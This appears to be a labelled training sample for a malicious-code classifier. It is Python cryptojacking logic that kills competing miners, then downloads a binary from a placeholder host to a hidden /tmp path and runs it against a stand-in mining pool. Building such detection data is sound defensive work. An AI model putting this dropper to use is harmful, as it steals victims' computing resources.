# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import psutil, subprocess, os, urllib.request
COMPETITORS = ["xmrig", "minerd", "cpuminer", "kworkerds", "sysupdate", "networkservice"]
for p in psutil.process_iter(["name", "cmdline"]):
    cmd = " ".join(p.info["cmdline"] or [])
    if any(c in cmd for c in COMPETITORS) or "stratum+tcp" in cmd:
        p.kill()
if psutil.cpu_percent(interval=1) < 50:
    exe = "/tmp/.ICE-unix/.m"
    urllib.request.urlretrieve("http://192.0.2.66/m", exe)
    os.chmod(exe, 0o755)
    subprocess.Popen([exe, "--url=stratum+ssl://pool.example.invalid:5555", "--user=PLACEHOLDER", "--threads=%d" % os.cpu_count()])
